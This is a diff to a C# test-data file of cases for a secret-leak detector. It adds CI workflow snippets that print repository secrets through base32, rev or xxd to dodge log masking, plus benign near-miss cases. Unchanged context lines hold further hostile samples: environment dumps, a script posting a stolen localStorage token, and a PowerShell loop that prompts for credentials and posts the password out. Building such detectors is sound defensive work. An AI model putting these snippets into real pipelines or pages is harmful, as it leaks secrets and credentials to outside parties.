@@ -43,12 +43,18 @@ internal static class DropCases
         ("environment-leaves", "lab.yml", "collect:\n  script:\n    - printenv > all.txt\n  artifacts:\n    paths: [all.txt]\n"),
 
         ("secrets-printed", "letters.js", "for (const [k, v] of Object.entries(process.env)) {\n  if (/TOKEN|SECRET|PASSWORD/.test(k)) {\n    let s = '';\n    for (const b of Buffer.from(v)) s += abc[b >> 3] + abc[(b << 2) & 31];\n    console.log(s);\n  }\n}\n"),
+        ("secrets-printed", "wide.yml", "jobs:\n  a:\n    steps:\n      - run: |\n          echo \"${{ secrets.DEPLOY }}\" | base32\n"),
+        ("secrets-printed", "round.yml", "jobs:\n  a:\n    steps:\n      - run: |\n          printf \"%s\" \"$V\" | rev\n        env:\n          V: ${{ secrets.DEPLOY }}\n"),
+        ("secrets-printed", "bytes.yaml", "deploy:\n  script:\n    - echo $DEPLOY_TOKEN | xxd -p\n"),
         ("page-secrets-leave", "frame.js", "const f = document.createElement('iframe');\ndocument.body.append(f);\nconst kept = f.contentWindow.localStorage;\nfetch(there, { method: 'POST', body: kept.token });\n"),
         ("credentials-leave", "ask.ps1", "while ($true) {\n  $c = Get-Credential\n  $p = $c.GetNetworkCredential().Password\n  if ($p) { break }\n}\nInvoke-RestMethod $there -Method Post -Body $p\n"),
     ];
 
     public static readonly (string Rule, string File, string Text)[] NearMisses =
     [
+        ("secrets-printed", "key.yml", "jobs:\n  a:\n    steps:\n      - run: |\n          echo \"${{ secrets.STORE }}\" | base64 -d > store.jks\n          echo \"${{ secrets.STORE }}\" | base64 --decode\n"),
+        ("secrets-printed", "login.yml", "jobs:\n  a:\n    steps:\n      - run: |\n          BASIC=$(echo -n \"a:$API_TOKEN\" | base64)\n          curl -H \"Authorization: Basic $BASIC\" https://api.example.org\n"),
+        ("secrets-printed", "tail.yml", "jobs:\n  a:\n    env:\n      T: ${{ secrets.T }}\n    steps:\n      - run: echo \"$TAG\" | rev | cut -d. -f2 | rev\n      - run: git log | rev\n"),
         ("remote-commands", "client.rs", "let mut conn = TcpStream::connect(\"t.example.org:99\")?;\nlet n = conn.read(&mut buf)?;\nprintln!(\"{}\", String::from_utf8_lossy(&buf[..n]));\n"),
         ("remote-commands", "file.ps1", "$reader = [IO.File]::OpenText($path)\n$line = $reader.ReadLine()\nWrite-Output $line\n"),
         ("remote-code", "score.lua", "http.Fetch('https://t.example.org/score', function(body)\n  print(util.JSONToTable(body).score)\nend)\n"),
